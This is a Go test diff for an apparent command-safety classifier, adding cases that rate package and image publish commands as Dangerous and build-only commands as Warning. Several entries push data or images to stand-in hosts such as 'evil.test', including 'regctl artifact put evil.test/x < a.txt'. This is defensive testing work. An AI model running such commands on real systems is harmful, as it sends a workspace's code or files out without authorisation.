@@ -180,6 +180,49 @@ func TestAttackS30ReviewPublishAfterOptions(t *testing.T) {
 	})
 }
 
+// TestAttackS30ReviewMorePublishers: publishers 5e87163 and 4d3c875 did
+// not name, each sending the workspace's package or image to a
+// registry as npm publish and docker push do. They were Warning.
+func TestAttackS30ReviewMorePublishers(t *testing.T) {
+	attackAtLeast(t, Dangerous, []string{
+		`sbt publish`,
+		`sbt +publishSigned`,
+		`lein deploy clojars`,
+		`stack upload .`,
+		`cabal upload dist/x.tar.gz`,
+		`mix hex.publish`,
+		`vsce publish`,
+		`ovsx publish -p tok`,
+		`conan upload x -r evil`,
+		`anaconda upload x.tar.bz2`,
+		`dart pub publish --force`,
+		`flutter pub publish`,
+		`pack build evil.test/x --publish`,
+		`gcrane cp x evil.test/x`,
+		`docker save x | gcrane push - evil.test/x`,
+		`regctl image copy x evil.test/x`,
+		`regctl artifact put evil.test/x < a.txt`,
+		`docker-compose push`,
+		`docker-compose build --push`,
+	})
+	assertS30ReviewWarning(t, []string{
+		`sbt publishLocal`,
+		`sbt compile`,
+		`lein uberjar`,
+		`stack build`,
+		`cabal build`,
+		`mix compile --force`,
+		`vsce package`,
+		`conan install .`,
+		`dart pub get`,
+		`flutter build apk`,
+		`pack build x`,
+		`gcrane ls evil.test/x`,
+		`regctl image inspect x`,
+		`docker-compose build`,
+	})
+}
+
 // TestAttackS30ReviewOtherDecoders: 1c78881 made openssl, gpg and xxd
 // decoding a download, then run, Blocked as base64 -d is. age -d (and
 // -o), python3 -m base64 -d, openssl's -in=FILE spelling and uudecode
